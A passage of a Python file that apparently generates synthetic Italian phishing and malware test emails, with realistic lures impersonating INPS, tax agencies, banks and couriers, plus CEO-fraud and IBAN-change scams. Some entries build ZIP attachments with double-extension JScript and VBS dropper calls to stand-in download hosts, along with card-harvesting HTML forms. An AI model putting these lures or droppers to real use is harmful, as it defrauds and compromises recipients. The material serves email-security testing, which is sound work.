    dict(slug="it-inps-html-form-compromised", cat="phishing", rc="tiscali", date="2025-04-16T10:05:33+02:00",
         frm=("INPS - Istituto Nazionale Previdenza Sociale", "amministrazione@edilcostruzionibrianza.it"),
         to="giuliana.pes@tiscali.it", helo="smtpdh03.aruba.it", rdns="smtpdh03.ad.aruba.it", ip="62.149.155.163", hops=[("DESKTOP-7QK2M1R", "102.89.34.117", "smtpdh03.aruba.it")],
         auth="pass pass pass", sel="a1", subj="Assegno Unico: sospensione del pagamento - aggiornamento dati richiesto",
         hdr=["X-Mailer: Microsoft Outlook 16.0", "Reply-To: <noreply.inps@edilcostruzionibrianza.it>"],
         body=mixed(brand("#005ca9", "INPS", "Aggiornamento dati Assegno Unico e Universale", [
             "Gentile utente,",
             "dai controlli effettuati sulla sua domanda di Assegno Unico risultano dati bancari non aggiornati. Il pagamento della "
             "mensilità di aprile è stato pertanto sospeso.",
             "Per evitare la decadenza della prestazione compili il modulo allegato <b>INPS_Modulo_AU2025.html</b> entro 48 ore dalla "
             "ricezione della presente comunicazione."], None,
             "INPS – Direzione Centrale Entrate. Messaggio generato automaticamente, si prega di non rispondere."),
             attachment("text/html", "INPS_Modulo_AU2025.html", html_form(
                 "INPS – Verifica dati Assegno Unico", "#005ca9",
                 "https://www.pizzeriadamimmo-monza.it/wp-includes/js/inps/invio.php",
                 ["Codice fiscale", "Nome e cognome", "IBAN di accredito", "Numero carta", "Scadenza (MM/AA)", "CVV", "Cellulare"],
                 "Compilare tutti i campi per riattivare il pagamento."))),
         desc="INPS Assegno Unico lure sent from a compromised small-business mailbox (all authentication passes) with an HTML attachment form posting identity, IBAN and card data to a hacked WordPress site."),

    dict(slug="it-ade-rimborso-ipfs", cat="phishing", rc="gmail", date="2025-06-09T07:48:12+02:00",
         frm=("Agenzia delle Entrate", "rimborsi@agenziaentrate-servizi.info"), to="luca.marras81@gmail.com",
         helo="mta2.agenziaentrate-servizi.info", ip="45.138.16.201", auth="pass pass pass", sel="default",
         subj="Rimborso IRPEF 2024: accredito di € 428,60 in attesa di conferma",
         body=brand("#0b5394", "Agenzia delle Entrate", "Comunicazione di rimborso", [
             "Gentile contribuente,",
             "a seguito dell'elaborazione della dichiarazione dei redditi (modello 730/2025) risulta a suo favore un rimborso IRPEF "
             "di <b>€ 428,60</b>.",
             "Per ricevere l'accredito è necessario confermare le coordinate bancarie tramite il servizio online. La richiesta scade "
             "il 16/06/2025."], ("Conferma i dati per il rimborso",
             "https://ipfs.io/ipfs/bafybeihq5zt7xk2m4rwd3n6c8vjyqa2lfo7e5s9hu3kpg4wz6tbrnc1yd/rimborso.html?cf=" + tok("a5", 16, UPNUM)),
             "Agenzia delle Entrate – Via Giorgione 106, 00147 Roma – C.F. 06363391001"),
         desc="Agenzia delle Entrate IRPEF refund lure from a lookalike .info domain with valid authentication, linking to a phishing page on an IPFS gateway."),

    dict(slug="it-ader-cartella-zip-js", cat="malware", rc="tf", date="2025-01-28T11:17:40+01:00",
         frm=("Agenzia delle Entrate-Riscossione", "notifiche@agenziariscossione-avvisi.com"), to="p.tola@tirreniafibra.it",
         helo="vps-7f21c.agenziariscossione-avvisi.com", ip="193.42.33.118", auth="pass none none",
         subj="Cartella di pagamento n. 068 2025 00412587 31 000 - notifica",
         body=mixed(plain("Gentile contribuente,\n\nle notifichiamo la cartella di pagamento n. 068 2025 00412587 31 000 per un importo "
                          "complessivo di 1.847,32 euro relativa a somme iscritte a ruolo dall'ente creditore.\n\n"
                          "Il documento completo, con i dettagli degli importi e le modalità di pagamento, è allegato alla presente.\n"
                          "Il pagamento deve essere effettuato entro 60 giorni dalla notifica; decorso tale termine si procederà "
                          "con le azioni cautelari ed esecutive previste dalla legge.\n\nAgenzia delle Entrate-Riscossione\n"
                          "Ufficio Notifiche\n"),
                    att("Cartella_06820250041258731000.zip", files.zip_archive([
                        ("Cartella_06820250041258731000.pdf.js", js_dropper("https://cdn-ader-doc.top/t/0128.php"))]), "application/zip")),
         desc="Malware: fake Agenzia Entrate-Riscossione tax bill from a lookalike domain with a ZIP holding a double-extension JScript downloader (.pdf.js) that launches PowerShell."),

    dict(slug="it-intesa-qr-okey", cat="phishing", rc="outlook", date="2025-04-02T09:30:15+02:00",
         frm=("Intesa Sanpaolo", "servizio.clienti@intesa-sanpaolo-sicurezza.com"), to="ilaria.bo@outlook.it",
         helo="mail.intesa-sanpaolo-sicurezza.com", ip="185.161.248.92", auth="pass pass pass",
         subj="Aggiornamento obbligatorio: attiva la nuova app O-Key entro il 15/04",
         body=related(brand("#00633c", "Intesa Sanpaolo", "Attiva il nuovo O-Key Smart", [
             "Gentile Cliente,",
             "dal 15 aprile il vecchio sistema O-Key SMS non sarà più supportato. Per continuare a disporre bonifici e pagamenti "
             "devi attivare il nuovo <b>O-Key Smart</b>.",
             "Inquadra il codice QR con la fotocamera del tuo smartphone e segui la procedura guidata: bastano due minuti."],
             None, "Intesa Sanpaolo S.p.A. – Sede legale Piazza San Carlo 156, 10121 Torino", img_cid="qr_okey@isp"),
             attachment("image/png", "qrcode.png", files.qr_png("https://okey-attivazione.netlify.app/?u=" + tok("a7", 12)),
                        inline=True, cid="qr_okey@isp")),
         desc="Quishing: Intesa Sanpaolo O-Key activation lure from a lookalike domain with the only call to action a QR code image leading to a Netlify-hosted credential page."),

    dict(slug="it-unicredit-pdf-callback", cat="phishing", rc="libero", date="2025-05-20T16:02:44+02:00",
         frm=("UniCredit Servizio Clienti", "noreply@unicredit-notifiche.net"), to=("Franca Deidda", "franca.deidda@libero.it"),
         helo="smtp.unicredit-notifiche.net", ip="217.145.98.23", auth="pass none none",
         subj="Conferma disposizione bonifico istantaneo BON-2025-88412",
         body=mixed(plain("Gentile cliente,\n\nin allegato trova la ricevuta della disposizione di bonifico istantaneo registrata "
                          "oggi sul suo conto.\n\nSe non riconosce l'operazione segua le istruzioni riportate nel documento.\n\n"
                          "Cordiali saluti\nUniCredit S.p.A.\n"),
                    att("UniCredit_Disposizione_BON-2025-88412.pdf", pdf([
                        "UniCredit S.p.A. - Ricevuta disposizione", "", "Tipo: Bonifico SEPA istantaneo in uscita",
                        "Importo: 2.490,00 EUR", "Beneficiario: KOVAC TRADE D.O.O.", "IBAN beneficiario: HR21 2340 0091 1107 4438 2",
                        "Data esecuzione: 20/05/2025 ore 18:00", "",
                        "Se NON ha autorizzato questa operazione chiami subito il Servizio Antifrode UniCredit:",
                        "800 91 46 38  oppure  +39 02 9475 3320 (24 ore su 24)",
                        "L'operatore la guidera' nell'annullamento prima dell'esecuzione."], "Ricevuta disposizione"))),
         desc="Callback scam: UniCredit transfer receipt PDF from a lookalike domain, no link, telling the recipient to ring a fake antifraud number to cancel a 2,490 EUR transfer."),

    dict(slug="it-bper-r2-bucket", cat="phishing", rc="tiscali", date="2025-07-08T13:14:09+02:00",
         frm=("BPER Banca", "avvisi@bper-smart.com"), to="stefano.murgia@tiscali.it", helo="mx01.bper-smart.com",
         ip="103.214.70.31", auth="pass pass pass", subj="Smart Web: accesso bloccato per motivi di sicurezza",
         body=brand("#002e5d", "BPER Banca", "Il tuo accesso a Smart Web è stato bloccato", [
             "Gentile cliente,", "abbiamo registrato tre tentativi di accesso non riusciti al servizio Smart Web. Per proteggere i "
             "tuoi risparmi abbiamo bloccato l'accesso all'home banking e all'app Smart Mobile Banking.",
             "Per sbloccare il servizio conferma la tua identità tramite il link sottostante."],
             ("Sblocca accesso", "https://pub-3f9c2a7e1b5d4c6a8e0f9b2d7c1a4e6f.r2.dev/bper/smartweb/index.html?sessione="
              + tok("a9", 20)), "BPER Banca S.p.A. – Via San Carlo 8/20, 41121 Modena"),
         desc="BPER Banca home-banking lockout lure from a lookalike domain linking to a phishing page in a Cloudflare R2 public bucket."),

    dict(slug="it-sella-workers-3ds", cat="phishing", rc="gmail", date="2025-09-15T08:03:27+02:00",
         frm=("Banca Sella", "info@sella-notifiche.it"), to="chiara.gastaldi@gmail.com", helo="out.sella-notifiche.it",
         ip="176.97.210.44", auth="pass pass pass", subj="Conferma il tuo numero di cellulare per i pagamenti 3D Secure",
         body=brand("#e2001a", "Banca Sella", "Aggiornamento 3D Secure", [
             "Gentile cliente,", "per continuare a effettuare acquisti online con la tua carta è necessario confermare il numero di "
             "cellulare associato al servizio 3D Secure.", "Senza la conferma, dal 22/09/2025 i pagamenti online verranno rifiutati."],
             ("Conferma numero", "https://sella-app.sellasicura.workers.dev/login?ref=" + tok("a10", 14, ALNUM)),
             "Banca Sella S.p.A. – Piazza Gaudenzio Sella 1, 13900 Biella"),
         desc="Banca Sella 3D Secure phone-number confirmation lure from a lookalike domain, link to a Cloudflare workers.dev phishing page."),

    dict(slug="it-nexi-spoof-wordpress", cat="phishing", rc="alice", date="2025-03-27T22:41:58+01:00",
         frm=("Nexi", "noreply@nexi.it"), to="f.caredda@alice.it", rp="www-data@vmi1844213.contaboserver.net",
         helo="vmi1844213.contaboserver.net", ip="194.163.146.22", auth="none none fail", pol="p=REJECT sp=REJECT",
         subj="Nexi: addebito non autorizzato di 749,00 EUR bloccato",
         body=brand("#2d32aa", "Nexi", "Operazione sospetta bloccata", [
             "Gentile Titolare,", "abbiamo bloccato un pagamento di <b>749,00 EUR</b> presso MEDIAWORLD ONLINE effettuato con la "
             "tua carta Nexi che termina con **** 4471.", "Se non riconosci l'operazione, accedi all'Area Personale per "
             "annullarla e ricevere una nuova carta. Hai 12 ore di tempo."],
             ("Annulla operazione", "https://www.agriturismo-sumurrali.it/wp-content/uploads/2024/11/nexi/secure/index.php?id="
              + tok("a11", 12)), "Nexi Payments S.p.A. – Corso Sempione 55, 20149 Milano"),
         desc="Direct spoof of nexi.it from a rented VPS (SPF none, no DKIM, DMARC fail) about a blocked card payment, linking to a kit on a compromised WordPress site."),

    dict(slug="it-brt-giacenza-shortener", cat="phishing", rc="libero", date="2025-10-03T12:26:35+02:00",
         frm=("BRT Spedizioni", "tracking@brt-consegne.info"), to="antonella.piras@libero.it", helo="mail.brt-consegne.info",
         ip="5.181.156.77", auth="pass pass none", subj="La tua spedizione 0603 4512 9987 è in giacenza – azione richiesta",
         body=brand("#a4001d", "BRT", "Consegna non effettuata", [
             "Ciao,", "il tuo pacco n. <b>0603 4512 9987</b> non è stato consegnato perché l'indirizzo risulta incompleto.",
             "Per programmare una nuova consegna è richiesto il pagamento delle spese di riconsegna di <b>1,99 €</b>. "
             "Senza riprogrammazione entro 72 ore il pacco verrà restituito al mittente."],
             ("Programma la consegna", "https://t.ly/Br7Gx2k"), "BRT S.p.A. – Via Enrico Mattei 42, 40138 Bologna"),
         desc="BRT parcel redelivery-fee lure from a lookalike .info domain (SPF/DKIM pass, no DMARC) using a t.ly URL shortener to hide the card-harvesting page."),

    dict(slug="it-sda-pdf-qr-outlook", cat="phishing", rc="gmail", date="2025-11-12T10:54:02+01:00",
         frm=("SDA Express Courier", "sda.notifiche.it@outlook.com"), to="mirko.serra@gmail.com",
         helo="EUR05-VI1-obe.outbound.protection.outlook.com", ip="52.101.68.94", auth="pass pass pass",
         dkd="outlook.com", sel="selector1", rp="sda.notifiche.it@outlook.com",
         mid="<PAXP193MB1845C0E2A7D54B8AC1F3E7B9C8452@PAXP193MB1845.EURP193.PROD.OUTLOOK.COM>",
         subj="Avviso di mancata consegna SDA - LDV 5821 3390 7712",
         body=mixed(plain("Gentile cliente,\n\nin allegato l'avviso di mancata consegna della spedizione SDA n. 5821 3390 7712.\n"
                          "Per riprogrammare la consegna inquadri il codice QR presente nel documento.\n\nSDA Express Courier S.p.A.\n"),
                    att("Avviso_SDA_582133907712.pdf", pdf_qr([
                        "SDA Express Courier - Avviso di mancata consegna", "", "Lettera di vettura: 5821 3390 7712",
                        "Esito: destinatario assente - spese di giacenza 2,49 EUR", "",
                        "Inquadra il codice QR per pagare e scegliere una nuova data di consegna."],
                        "https://sdaconsegne-it.top/p/SD58213?c=" + tok("a13", 10), "Avviso SDA"))),
         desc="Quishing: SDA missed-delivery notice from an Outlook.com freemail account with a PDF whose only call to action is a QR code to a .top payment page."),
]

PEC_WHEN = datetime.fromisoformat("2025-03-12T10:14:33+01:00")
PEC_MID = "<a3f1c2e7-5b9d-4e21-9c0a-7d3e8b6f4a12@pec.it>"
PEC_INNER = inner_message(
    "tecnoimpiantisassari@pec.it", "ceramichesulcis@pec.it", "Invio fattura n. 2025/0318 - sollecito pagamento", PEC_WHEN, PEC_MID,
    mixed(plain("Buongiorno,\n\nin allegato la fattura n. 2025/0318 relativa all'intervento di manutenzione dell'impianto di "
                "aspirazione, già scaduta il 28/02.\nVi preghiamo di verificare e procedere al saldo.\n\nDistinti saluti\n"
                "Tecnoimpianti Sassari S.r.l.\nUfficio Amministrazione\n"),
          att("Fattura_2025_0318.zip", files.zip_archive([("Fattura_2025_0318.pdf.vbs", vbs_dropper("https://fatture-docs.shop/v/0318"))]),
              "application/zip")),
    "X-Mailer: Aruba Webmail 2.x\n")
DOCUSIGN_FOOT = ("Non condividere questa email. Questa email contiene un link sicuro a DocuSign. Ti preghiamo di non condividere "
                 "questa email, il link o il codice di accesso con altri. Informazioni su DocuSign: firma i documenti elettronicamente "
                 "in pochi minuti. È sicuro, protetto e legalmente vincolante.")
MS_FOOT = ("Microsoft rispetta la tua privacy. Per altre informazioni, leggi l'<a href=\"https://go.microsoft.com/fwlink/?LinkId=521839\">"
           "Informativa sulla privacy</a>.<br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052")

MSGS += [
    dict(slug="it-amazon-hotmail-webapp", cat="phishing", rc="virgilio", date="2025-01-14T06:12:19+01:00",
         frm=("Amazon.it", "amazon.it.account.service@hotmail.com"), to="rosanna.deiana@virgilio.it",
         helo="EUR02-DB5-obe.outbound.protection.outlook.com", ip="52.101.65.57", auth="pass pass pass", dkd="hotmail.com",
         sel="selector1", subj="Il tuo account Amazon è stato bloccato: ordine #405-2217481-6639512",
         mid="<DB9P194MB1601E3A9C2D84F71B5E6A0C2F81A2@DB9P194MB1601.EURP194.PROD.OUTLOOK.COM>",
         body=brand("#232f3e", "amazon.it", "Abbiamo bloccato il tuo account", [
             "Ciao,", "abbiamo rilevato un'attività insolita sul tuo account: l'ordine <b>#405-2217481-6639512</b> (iPhone 16 Pro, "
             "1.329,00 €) è stato effettuato da un nuovo dispositivo.", "Per motivi di sicurezza il tuo account e gli ordini in sospeso "
             "sono stati bloccati. Verifica le informazioni del tuo account per ripristinare l'accesso ed annullare l'ordine."],
             ("Verifica il tuo account", "https://amazon-it-verifica.web.app/ap/signin?openid.return_to=" + tok("a14", 24)),
             "© 1996-2025, Amazon.com, Inc. o società affiliate."),
         desc="Amazon.it account-locked lure sent from a Hotmail freemail account with an Amazon display name, linking to a Firebase web.app sign-in clone."),

    dict(slug="it-enel-brevo-abuse", cat="phishing", rc="libero", date="2025-05-06T11:40:02+02:00",
         frm=("Enel Energia", "rimborsi@enel-offerte-luce.it"), to="g.pintus@libero.it", rp="bounces-1847221-xr91@brevosend.com",
         helo="s1-mailer.brevosend.com", rdns="s1-mailer.brevosend.com", ip="77.32.148.20", auth="pass pass none",
         dkd="brevosend.com", sel="mail", subj="Rimborso per doppio addebito in bolletta: € 84,20",
         hdr=["X-Mailin-Client: 1847221", "X-Mailin-Campaign: 12",
              "List-Unsubscribe: <https://xr91z.r.sp1-brevo.net/mk/un/v2/sh/1t6Af4OiGsEBcJvLkE3D>"],
         body=brand("#008c5a", "Enel Energia", "Hai diritto a un rimborso", [
             "Gentile Cliente,", "a seguito di un errore nel sistema di fatturazione la bolletta di aprile è stata addebitata due "
             "volte sul tuo conto. Ti spetta un rimborso di <b>€ 84,20</b>.", "Per ricevere l'importo inserisci i dati della carta "
             "su cui desideri l'accredito entro 5 giorni lavorativi."],
             ("Richiedi il rimborso", "https://xr91z.r.sp1-brevo.net/mk/cl/f/sh/1t6Af4OiGsEBcJvLkE3D/" + tok("a15", 22, ALNUM)),
             "Enel Energia S.p.A. – Viale Regina Margherita 125, 00198 Roma"),
         desc="Enel Energia double-billing refund lure from a lookalike domain sent through an abused Brevo account (ESP SPF/DKIM pass, no DMARC), link hidden behind Brevo click tracking."),

    dict(slug="it-telepass-pedaggio", cat="phishing", rc="outlook", date="2025-09-18T07:55:46+02:00",
         frm=("Telepass", "info@telepass-pedaggi.com"), to="davide.canepa@outlook.it", helo="smtp.telepass-pedaggi.com",
         ip="141.98.10.56", auth="pass pass pass", subj="Pedaggio autostradale non pagato – evita la sanzione entro 48 ore",
         body=brand("#0066b3", "Telepass", "Mancato pagamento pedaggio", [
             "Gentile utente,", "risulta un transito non pagato del 12/09/2025 al casello di <b>Genova Ovest</b> (A10) per "
             "un importo di <b>€ 6,80</b>.", "Regolarizza il pagamento entro 48 ore per evitare l'applicazione della sanzione "
             "amministrativa e delle spese di recupero (€ 48,50)."],
             ("Paga il pedaggio", "https://autostrade-pedaggi.com/pagamento/?transito=GE0" + tok("a16", 9, "0123456789")),
             "Telepass S.p.A. – Via Laurentina 449, 00142 Roma"),
         desc="Unpaid motorway toll lure impersonating Telepass/Autostrade from a lookalike domain with full authentication, linking to a card-harvesting payment page."),

    dict(slug="it-pagopa-verbale-pdf", cat="phishing", rc="tiscali", date="2025-10-21T15:31:08+02:00",
         frm=("PagoPA - Avvisi di pagamento", "avvisi@pagopa-notifiche.eu"), to="roberta.melis@tiscali.it",
         helo="mail.pagopa-notifiche.eu", ip="31.222.238.19", auth="pass none none",
         subj="Avviso di pagamento PagoPA n. 3012 0000 4418 5521 - Verbale Polizia Locale",
         body=mixed(plain("Gentile cittadino,\n\nè disponibile l'avviso di pagamento relativo al verbale n. 44185/2025 della Polizia "
                          "Locale per violazione dell'art. 7 del Codice della Strada (accesso ZTL).\n\nImporto ridotto del 30% se "
                          "pagato entro 5 giorni: 58,10 euro.\n\nTrova l'avviso in allegato.\n\nPagoPA S.p.A.\n"),
                    att("Avviso_PagoPA_301200004418552.pdf", pdf([
                        "pagoPA - AVVISO DI PAGAMENTO", "Ente creditore: Comune di Cagliari - Polizia Locale",
                        "Oggetto: Verbale n. 44185/2025 - art. 7 C.d.S.", "Codice avviso: 3012 0000 4418 5521",
                        "Importo: 58,10 EUR (ridotto entro 5 giorni)", "", "Paga online con carta:"],
                        "Avviso pagoPA", "https://pagopa-verbali.it/paga?iuv=301200004418552&c=" + tok("a17", 8)))),
         desc="Fake PagoPA traffic-fine notice from a lookalike .eu domain with a PDF whose clickable button leads to a fake payment checkout."),

    dict(slug="it-aruba-rinnovo-dominio", cat="phishing", rc="aruba", date="2025-08-04T09:02:55+02:00",
         frm=("Aruba.it", "rinnovi@aruba-servizi-rinnovo.com"), to="info@agriturismocampuomu.it", helo="mail.aruba-servizi-rinnovo.com",
         ip="45.87.154.212", auth="pass pass pass", subj="Il dominio agriturismocampuomu.it scade oggi - rinnovo non riuscito",
         body=brand("#e8561f", "Aruba.it", "Rinnovo automatico non riuscito", [
             "Gentile Cliente,", "non siamo riusciti ad addebitare il rinnovo annuale del dominio <b>agriturismocampuomu.it</b> e "
             "della casella di posta associata: la carta registrata risulta scaduta.", "Se il rinnovo non viene completato entro "
             "oggi il dominio verrà sospeso e le email non saranno più recapitate. Importo: <b>€ 4,99 + IVA</b>."],
             ("Rinnova ora", "https://aruba-rinnovi.it-pagamenti.com/rinnovo/?dom=agriturismocampuomu.it&ord=" + tok("a18", 8, "0123456789")),
             "Aruba S.p.A. – Via San Clemente 53, 24036 Ponte San Pietro (BG) – P.IVA 01573850516"),
         desc="Aruba domain-renewal failure lure to a small business from a lookalike domain passing authentication, linking to a fake card payment page."),

    dict(slug="it-aruba-pec-piena-spoof", cat="phishing", rc="aruba", date="2025-11-25T18:47:31+01:00",
         frm=("Aruba PEC", "no-reply@aruba.it"), to="amministrazione@agriturismocampuomu.it",
         rp="wordpress@hotel-bellavista-riccione.it", helo="mail.hotel-bellavista-riccione.it", ip="93.186.254.71",
         auth="softfail none fail", subj="Avviso: la tua casella PEC ha raggiunto il 98% dello spazio disponibile",
         mid="<f0c8a1b2d3e45f67@hotel-bellavista-riccione.it>",
         body=brand("#e8561f", "Aruba PEC", "Spazio casella quasi esaurito", [
             "Gentile utente <b>amministrazione@agriturismocampuomu.it</b>,", "la tua casella PEC ha raggiunto il <b>98%</b> dello "
             "spazio disponibile. I nuovi messaggi certificati in arrivo verranno respinti e le ricevute di consegna non saranno "
             "emesse.", "Accedi alla webmail per liberare spazio o attivare gratuitamente 1 GB aggiuntivo."],
             ("Accedi alla Webmail PEC", "https://www.hotel-bellavista-riccione.it/wp-admin/css/colors/pec/webmail/?email="
              "amministrazione@agriturismocampuomu.it"), "Aruba PEC S.p.A. – Gestore accreditato AgID"),
         desc="Spoof of aruba.it failing SPF and DMARC, sent from a compromised WordPress host, claiming the PEC mailbox is full and linking to a webmail credential page on that site."),

    dict(slug="it-pec-fattura-zip-vbs", cat="malware", rc="pec", date="2025-03-12T10:14:36+01:00",
         frm=("Per conto di: tecnoimpiantisassari@pec.it", "posta-certificata@pec.aruba.it"), to="ceramichesulcis@pec.it",
         helo="smtps.pec.aruba.it", rdns="smtpdpec5.pec.aruba.it", ip="62.149.158.93", auth="pass none none",
         subj="POSTA CERTIFICATA: Invio fattura n. 2025/0318 - sollecito pagamento",
         mid="<opec21012.20250312101433.28817.744.1.53@pec.aruba.it>",
         hdr=["Reply-To: tecnoimpiantisassari@pec.it", "X-Riferimento-Message-ID: " + PEC_MID, "X-Trasporto: posta-certificata"],
         body=pec_envelope("tecnoimpiantisassari@pec.it", "ceramichesulcis@pec.it", "Invio fattura n. 2025/0318 - sollecito pagamento",
                           PEC_WHEN, PEC_INNER, "ARUBA PEC S.p.A.", "opec21012.20250312101433.28817.744.1.53@pec.aruba.it", PEC_MID),
         desc="Malware via certified mail: a genuine PEC transport envelope from a compromised PEC mailbox whose postacert.eml carries an overdue-invoice ZIP with a .pdf.vbs PowerShell launcher."),

    dict(slug="it-tim-fattura-firebase", cat="phishing", rc="alice", date="2025-02-26T14:20:10+01:00",
         frm=("TIM", "fatture@tim-areaclienti.com"), to="paolo.sanna@alice.it", helo="mx.tim-areaclienti.com", ip="80.66.88.141",
         auth="pass pass none", subj="Fattura TIM non pagata – sospensione della linea programmata",
         body=brand("#004691", "TIM", "Pagamento non riuscito", [
             "Gentile Cliente,", "il pagamento della fattura n. <b>RN00184466</b> di € 37,90 non è andato a buon fine.",
             "Per evitare la sospensione della linea fissa e di TIM Vision, aggiorna il metodo di pagamento entro il 03/03/2025."],
             ("Aggiorna il pagamento", "https://timareaclienti.firebaseapp.com/pagamento?fattura=RN00184466&k=" + tok("a21", 10)),
             "TIM S.p.A. – Via Gaetano Negri 1, 20123 Milano"),
         desc="TIM unpaid-bill lure to an Alice mailbox from a lookalike domain (no DMARC), linking to a Firebase-hosted payment page."),

    dict(slug="it-windtre-google-forms", cat="phishing", rc="gmail", date="2025-06-27T20:08:44+02:00",
         frm=("WINDTRE Premi Fedeltà", "windtre.premiofedelta2025@gmail.com"), to="serena.loi@gmail.com",
         helo="mail-ej1-f52.google.com", ip="209.85.218.52", auth="pass pass pass", dkd="gmail.com", sel="20230601",
         mid="<CAJ9qx3mWvR8T2kFp0Lz7_yXnE4cHb1sQdUa6Gt5@mail.gmail.com>",
         subj="Congratulazioni! Sei stato selezionato per il premio fedeltà WINDTRE",
         body=brand("#ff6a00", "WINDTRE", "Il tuo premio ti aspetta", [
             "Caro cliente,", "per festeggiare i 10 anni di WINDTRE abbiamo selezionato 100 clienti fedeli a cui regalare un "
             "<b>Samsung Galaxy S25</b>.", "Compila il breve questionario e paga solo le spese di spedizione di 2,00 € con carta."],
             ("Rispondi al questionario", "https://docs.google.com/forms/d/e/1FAIpQLSd" + tok("a22", 40, ALNUM) + "/viewform?usp=sf_link"),
             "WINDTRE S.p.A. – Iniziativa valida fino ad esaurimento premi"),
         desc="Fake loyalty-prize survey impersonating WINDTRE from a Gmail account, linking to a genuine Google Forms form that collects personal and card data."),

    dict(slug="it-ceo-bonifico-gmail", cat="phishing", rc="m365", date="2025-04-24T09:12:05+02:00",
         frm=("Giorgio Lunardi", "giorgio.lunardi.ottica@gmail.com"), to=("Laura Ferrari", "amministrazione@ottica-lunardi.it"),
         helo="mail-wm1-f43.google.com", ip="209.85.128.43", auth="pass pass pass", dkd="gmail.com", sel="20230601",
         mid="<5E2C7A91-3B4D-4F8E-A1C6-9D0B2E7F4C13@gmail.com>", subj="Urgente",
         hdr=["Reply-To: Giorgio Lunardi <g.lunardi.direzione@proton.me>", "X-Mailer: iPhone Mail (22D82)"],
         body=plain("Laura sei in ufficio?\nHo bisogno che mi gestisci un bonifico urgente oggi per un fornitore nuovo, sono in "
                    "riunione con il commercialista e non posso telefonare.\nDimmi solo se riesci entro le 12 e ti mando i dati.\n\n"
                    "Giorgio\n\nInviato da iPhone"),
         desc="CEO fraud: the owner's name on a Gmail account with a Proton Reply-To asks the bookkeeper of an optician's shop for an urgent transfer; no link or attachment."),

    dict(slug="it-iban-change-lookalike-thread", cat="phishing", rc="gws", date="2025-10-29T12:37:50+01:00",
         frm=("Valentina Cossu - Smalti Tirreno", "v.cossu@smaltitirreno.com"),
         to=("Ceramiche Sulcis - Amministrazione", "amministrazione@ceramichesulcis.it"),
         helo="EUR03-AM7-obe.outbound.protection.outlook.com", ip="52.101.70.118", auth="pass pass pass", sel="selector1",
         mid="<AS8PR09MB6144B2D1E7F94C3A8D52E1A6C4B79@AS8PR09MB6144.eurprd09.prod.outlook.com>",
         subj="R: R: Fatture 2025/1142 e 2025/1187 - scadenza 31/10",
         hdr=["In-Reply-To: <CAKd8nR2x@ceramichesulcis.it>", "References: <AS8PR09MB5511@smaltitirreno.it> <CAKd8nR2x@ceramichesulcis.it>",
              "Thread-Topic: Fatture 2025/1142 e 2025/1187 - scadenza 31/10", "Thread-Index: AdtJ8x2Kq9mTzRwVQe6bF3l1kP0ZoA=="],
         body=ol("Buongiorno Sig.ra Atzeni,\n\ncome anticipato telefonicamente al Vostro ufficio, a seguito di una verifica interna "
                 "la nostra banca d'appoggio è cambiata.\nVi preghiamo quindi di effettuare il pagamento delle fatture in oggetto "
                 "(totale € 14.382,60) sulle nuove coordinate:\n\nIntestatario: Smalti Tirreno S.r.l.\n"
                 "IBAN: IT47 K036 6901 6005 7291 4603 184\nBanca: Revolut Bank UAB - succursale italiana\n\n"
                 "Le coordinate BPER riportate in fattura non sono più attive, Vi chiediamo di non utilizzarle.\n"
                 "Attendiamo copia della contabile a pagamento effettuato.\n\nCordiali saluti\nValentina Cossu\n"
                 "Ufficio Amministrazione - Smalti Tirreno S.r.l.\n\n"
                 "Da: Amministrazione Ceramiche Sulcis <amministrazione@ceramichesulcis.it>\nInviato: martedì 28 ottobre 2025 17:02\n"
                 "A: Valentina Cossu <v.cossu@smaltitirreno.it>\nOggetto: R: Fatture 2025/1142 e 2025/1187 - scadenza 31/10\n\n"
                 "Buonasera Valentina,\nconfermo che le due fatture sono in pagamento con la distinta di fine mese.\nSaluti\nMarta Atzeni"),
         desc="Supplier bank-detail change inside a hijacked invoice thread, sent from a one-letter-TLD lookalike (.com instead of .it) with valid authentication and no link."),

    dict(slug="it-fattura-html-redirect", cat="phishing", rc="m365", date="2025-07-22T08:19:27+02:00",
         frm=("Termoidraulica Vaccaro", "ufficio@termoidraulica-vaccaro.it"), to="info@ottica-lunardi.it",
         helo="smtpdh16.aruba.it", rdns="smtpdh16.ad.aruba.it", ip="62.149.155.176", auth="pass pass pass", sel="a1",
         hops=[("WIN-LQ3U8R2K1TD", "41.216.188.204", "smtpdh16.aruba.it")],
         subj="Fattura elettronica n. FPR 214/25 - copia di cortesia",
         body=mixed(ol("Buongiorno,\n\nin allegato la copia di cortesia della fattura elettronica n. FPR 214/25 già trasmessa allo SDI.\n"
                       "Per visualizzarla aprire il file allegato ed accedere con le credenziali aziendali.\n\nCordiali saluti",
                       "Amministrazione\nTermoidraulica Vaccaro s.n.c.\nTel. 010 6451 882"),
                    attachment("text/html", "IT01879020517_FPR214_25.html", html_redirect(
                        base64.b64encode(b"https://sdi-fatture.z13.web.core.windows.net/index.html").decode(),
                        "info@ottica-lunardi.it", "Caricamento fattura elettronica in corso..."))),
         desc="Compromised supplier mailbox (authentication passes) sending a courtesy e-invoice as an HTML attachment that uses atob() to redirect to a Microsoft 365 login clone on Azure static hosting."),

    dict(slug="it-sharepoint-compromised-studio", cat="phishing", rc="m365", date="2025-12-02T16:44:13+01:00",
         frm=("Marco Bianchi", "no-reply@sharepointonline.com"), to="info@ottica-lunardi.it",
         helo="EUR02-AM0-obe.outbound.protection.outlook.com", ip="52.101.66.101", auth="pass pass pass",
         sel="selector1", rp="bounces+SRS=ZdQ0e=3F@sharepointonline.com",
         subj="Marco Bianchi ha condiviso il file \"Documenti contabili 2025 - Ottica Lunardi\" con te",
         body=brand("#0078d4", "SharePoint", "Marco Bianchi ha condiviso un file con te", [
             "<i>\"Buongiorno, vi giro la documentazione contabile di fine anno da visionare e firmare entro venerdì. Grazie.\"</i>",
             "📄 <b>Documenti contabili 2025 - Ottica Lunardi.pdf</b>",
             "Questo link funziona solo per i destinatari diretti di questo messaggio."],
             ("Apri", "https://studiobianchicomm-my.sharepoint.com/:b:/g/personal/m_bianchi_studiobianchicomm_it/"
              "EY7xQ2kV9bNHmT4rZp0aW1sBq8dLf3Jc6uXe5Gh2oPzKiA?e=4kT9Qp"), MS_FOOT),
         desc="Genuine SharePoint Online sharing notice (Microsoft authentication passes) from the compromised tenant of an accountancy firm, pointing to a shared PDF that links on to a credential phish."),

    dict(slug="it-docusign-caparra-abuse", cat="phishing", rc="gmail", date="2025-07-30T13:05:51+02:00",
         frm=("Immobiliare Gallura tramite DocuSign", "dse@eumail.docusign.net"), to="elisa.fadda@gmail.com",
